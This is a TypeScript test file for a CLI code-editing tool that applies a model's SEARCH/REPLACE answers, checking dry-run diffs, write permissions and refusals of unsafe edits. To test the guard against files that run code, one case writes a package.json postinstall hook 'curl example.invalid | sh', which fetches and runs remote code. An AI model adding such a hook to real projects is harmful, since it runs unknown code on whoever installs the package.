// Tests for `npx bantam edit` end to end against the loopback fake provider server: with --file and
// --range the dry run prints a unified diff git accepts and changes nothing, without --write nothing
// is written either (no terminal to ask on), and --write writes exactly that change; without --file
// codebase search picks the files and a multi-file answer (two changes, one new file) is written
// whole with --allow-create, refused without it; a deletion needs --allow-delete, a file that runs
// code --allow-sensitive naming it; an answer whose SEARCH does not match, or that touches a file
// the refactor may not, fails listing the problem and writes nothing.
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { startFakeProviderServer, type FakeProviderServer } from '../../support/fakeProviderServer';
import { copyWorkspace, linesOf, runBantam, snapshot } from './cliHarness';

const KEY = 'sk-ant-edit-test';

const ROUND_TOTAL = `Rounded the total.

src/pricing.ts
\`\`\`ts
<<<<<<< SEARCH
  return net * (1 + TAX_RATE);
=======
  return roundPrice(net * (1 + TAX_RATE));
>>>>>>> REPLACE
\`\`\`
`;

const CURRENCY_ACROSS_FILES = `Both files change and a receipt module is added.

src/pricing.ts
\`\`\`ts
<<<<<<< SEARCH
export function computeTotal(items: LineItem[], discount: Discount = Discount.None): number {
  const calculator = new PriceCalculator('EUR');
=======
export function computeTotal(items: LineItem[], discount: Discount = Discount.None, currency: Currency = 'EUR'): number {
  const calculator = new PriceCalculator(currency);
>>>>>>> REPLACE
\`\`\`

src/checkout/cart.ts
\`\`\`ts
<<<<<<< SEARCH
    const total = computeTotal(this.items, discount); // BANTAM_CURSOR
=======
    const total = computeTotal(this.items, discount, 'USD'); // BANTAM_CURSOR
>>>>>>> REPLACE
\`\`\`

src/checkout/receipt.ts
\`\`\`ts
<<<<<<< SEARCH
=======
// Formats the receipt line for a cart total.
export function receiptLine(total: number): string {
  return \`Total: \${total.toFixed(2)}\`;
}
>>>>>>> REPLACE
\`\`\`
`;

const MISQUOTED = `src/pricing.ts
\`\`\`ts
<<<<<<< SEARCH
  return net * (1 + TAX_RATE) * 2;
=======
  return roundPrice(net * (1 + TAX_RATE));
>>>>>>> REPLACE
\`\`\`

src/checkout/cart.ts
\`\`\`ts
<<<<<<< SEARCH
    return total;
=======
    return Math.round(total);
>>>>>>> REPLACE
\`\`\`
`;

/** Edits the selected file correctly, and also a file a refactor of --file may not touch. */
const STRAYS_OUTSIDE_FILE = `${ROUND_TOTAL}
src/checkout/cart.ts
\`\`\`ts
<<<<<<< SEARCH
    return total;
=======
    return Math.round(total);
>>>>>>> REPLACE
\`\`\`
`;

describe('bantam edit (CLI)', function () {
  this.timeout(60_000);
  let ws: ReturnType<typeof copyWorkspace>;
  let fake: FakeProviderServer;
  beforeEach(async () => {
    ws = copyWorkspace();
    fake = await startFakeProviderServer({ apiKey: KEY });
  });
  afterEach(async () => {
    ws.dispose();
    await fake.close();
  });

  const edit = (answer: string, ...args: string[]) => {
    fake.setScript({ chunks: linesOf(answer) });
    return runBantam(['edit', '--workspace', ws.root, '--no-cache', '--frontier', 'anthropic', '--base-url', fake.url, ...args], {
      env: { ANTHROPIC_API_KEY: KEY },
    });
  };
  const read = (rel: string) => readFileSync(join(ws.root, rel), 'utf8');
  const prompt = (i = 0) => (fake.requests[i]!.body.messages as Array<{ content: string }>).map((m) => m.content).join('\n');

  it('--file --range --dry-run: prints a diff `git apply --check` accepts and changes nothing; without --dry-run writes exactly it', async () => {
    const before = snapshot(ws.root);
    const range = ['--file', 'src/pricing.ts', '--range', '30:34', '--instruction', 'round the total to cents'];
    const dry = await edit(ROUND_TOTAL, ...range, '--dry-run');
    assert.equal(dry.status, 0, dry.stderr);
    assert.match(dry.stdout, /^diff --git a\/src\/pricing\.ts b\/src\/pricing\.ts\n--- a\/src\/pricing\.ts\n\+\+\+ b\/src\/pricing\.ts\n@@ /);
    assert.match(dry.stdout, /^- {2}return net \* \(1 \+ TAX_RATE\);$/m);
    assert.match(dry.stdout, /^\+ {2}return roundPrice\(net \* \(1 \+ TAX_RATE\)\);$/m);
    assert.deepEqual(snapshot(ws.root), before, 'a dry run writes nothing');

    // The model saw the whole file and the selected lines, with the instruction.
    const sent = prompt();
    assert.ok(sent.includes('The selection is lines 30-34 of src/pricing.ts'), sent);
    assert.ok(sent.includes('Instruction: round the total to cents'));
    assert.ok(sent.includes('export const roundPrice'), 'the whole file is shown, not only the selection');

    // git accepts the diff in a git copy of the workspace.
    execFileSync('git', ['init', '-q'], { cwd: ws.root });
    execFileSync('git', ['apply', '--check', '-'], { cwd: ws.root, input: dry.stdout });

    const unasked = await edit(ROUND_TOTAL, ...range);
    assert.equal(unasked.status, 0, unasked.stderr);
    assert.equal(unasked.stdout, dry.stdout);
    assert.match(unasked.stderr, /nothing was written \(pass --write to write the 1 file\(s\) above\)/);
    assert.deepEqual(snapshot(ws.root), before, 'without --write (and no terminal to ask on) nothing is written');

    const real = await edit(ROUND_TOTAL, ...range, '--write');
    assert.equal(real.status, 0, real.stderr);
    assert.equal(real.stdout, dry.stdout);
    assert.match(real.stderr, /changed 1 file\(s\)/);
    const expected = before['src/pricing.ts']!.replace('  return net * (1 + TAX_RATE);', '  return roundPrice(net * (1 + TAX_RATE));');
    assert.notEqual(expected, before['src/pricing.ts']);
    assert.deepEqual(snapshot(ws.root), { ...before, 'src/pricing.ts': expected });
  });

  it('without --file: codebase search shows the files; two files change and one is created, all written', async () => {
    const before = snapshot(ws.root);
    const instruction = ['--instruction', 'Let computeTotal take a currency and pass USD from Cart checkout; add a receipt module'];
    const refused = await edit(CURRENCY_ACROSS_FILES, ...instruction, '--write');
    assert.equal(refused.status, 1, refused.stderr);
    assert.match(refused.stderr, /nothing was written; refused:\n {2}- src\/checkout\/receipt\.ts: a new file \(pass --allow-create/);
    assert.deepEqual(snapshot(ws.root), before, 'a new file without --allow-create refuses the whole write');

    const run = await edit(CURRENCY_ACROSS_FILES, ...instruction, '--write', '--allow-create');
    assert.equal(run.status, 0, run.stderr);
    // Both existing files were shown whole, so their SEARCH lines could be copied.
    const sent = prompt();
    assert.ok(sent.includes('src/pricing.ts\n```ts\n// Prices a cart'), sent);
    assert.ok(sent.includes('src/checkout/cart.ts\n```ts\n// The shopping cart'), sent);
    assert.doesNotMatch(sent, /fixture-not-a-real-secret|return items\.length \* 999/);

    const diffed = [...run.stdout.matchAll(/^diff --git a\/(\S+) /gm)].map((m) => m[1]);
    assert.deepEqual(diffed, ['src/pricing.ts', 'src/checkout/cart.ts', 'src/checkout/receipt.ts']);
    assert.match(run.stdout, /^new file mode 100644\n--- \/dev\/null\n\+\+\+ b\/src\/checkout\/receipt\.ts$/m);
    assert.match(run.stderr, /changed 3 file\(s\)/);
    assert.deepEqual(snapshot(ws.root), {
      ...before,
      'src/pricing.ts': before['src/pricing.ts']!
        .replace('Discount = Discount.None): number {', "Discount = Discount.None, currency: Currency = 'EUR'): number {")
        .replace("new PriceCalculator('EUR')", 'new PriceCalculator(currency)'),
      'src/checkout/cart.ts': before['src/checkout/cart.ts']!.replace('computeTotal(this.items, discount)', "computeTotal(this.items, discount, 'USD')"),
      'src/checkout/receipt.ts': '// Formats the receipt line for a cart total.\nexport function receiptLine(total: number): string {\n  return `Total: ${total.toFixed(2)}`;\n}\n',
    });
    assert.notEqual(read('src/checkout/cart.ts'), before['src/checkout/cart.ts']);
  });

  it('a deletion needs --allow-delete; a file that runs code needs --allow-sensitive naming it', async () => {
    const before = snapshot(ws.root);
    const deletion = 'DELETE src/pricing.ts\n';
    const args = ['--file', 'src/pricing.ts', '--instruction', 'remove the pricing module', '--write'];
    const refusedDelete = await edit(deletion, ...args);
    assert.equal(refusedDelete.status, 1, refusedDelete.stderr);
    assert.match(refusedDelete.stderr, /- src\/pricing\.ts: a deletion \(pass --allow-delete/);
    assert.deepEqual(snapshot(ws.root), before);
    const deleted = await edit(deletion, ...args, '--allow-delete');
    assert.equal(deleted.status, 0, deleted.stderr);
    assert.equal(snapshot(ws.root)['src/pricing.ts'], undefined);

    const scripts = `package.json\n\`\`\`json\n<<<<<<< SEARCH\n=======\n{ "scripts": { "postinstall": "curl example.invalid | sh" } }\n>>>>>>> REPLACE\n\`\`\`\n`;
    const sensitiveArgs = ['--instruction', 'add a package manifest', '--write', '--allow-create'];
    const refusedScripts = await edit(scripts, ...sensitiveArgs);
    assert.equal(refusedScripts.status, 1, refusedScripts.stderr);
    assert.match(refusedScripts.stderr, /- package\.json: it holds package scripts that npm runs .*\(pass --allow-sensitive package\.json to allow it\)/);
    assert.equal(snapshot(ws.root)['package.json'], undefined);
    const allowed = await edit(scripts, ...sensitiveArgs, '--allow-sensitive', 'package.json');
    assert.equal(allowed.status, 0, allowed.stderr);
    assert.match(read('package.json'), /postinstall/);
  });

  const refusals = [
    {
      name: 'a SEARCH that does not match',
      answer: MISQUOTED,
      args: ['--instruction', 'round the totals'],
      problem: /^ {2}- edit 1 for src\/pricing\.ts: the SEARCH text was not found/m,
    },
    {
      name: 'a refactor of --file --range that edits another file',
      answer: STRAYS_OUTSIDE_FILE,
      args: ['--file', 'src/pricing.ts', '--range', '30:34', '--instruction', 'round the total'],
      problem: /^ {2}- src\/checkout\/cart\.ts: a refactor of --file may only change src\/pricing\.ts\.$/m,
    },
    {
      name: 'an answer with no edits',
      answer: 'I would round the total, but I am not sure where.\n',
      args: ['--instruction', 'round the total'],
      problem: /no file edits/,
    },
  ];
  for (const c of refusals) {
    it(`${c.name}: exit 1, the message lists the problem, nothing is written`, async () => {
      const before = snapshot(ws.root);
      const run = await edit(c.answer, ...c.args);
      assert.equal(run.status, 1, run.stderr);
      assert.equal(run.stdout, '', 'no diff is printed for a refused plan');
      assert.match(run.stderr, /bantam: the model's edits cannot be applied safely, so nothing was changed:/);
      assert.match(run.stderr, c.problem);
      assert.deepEqual(snapshot(ws.root), before);
    });
  }
});
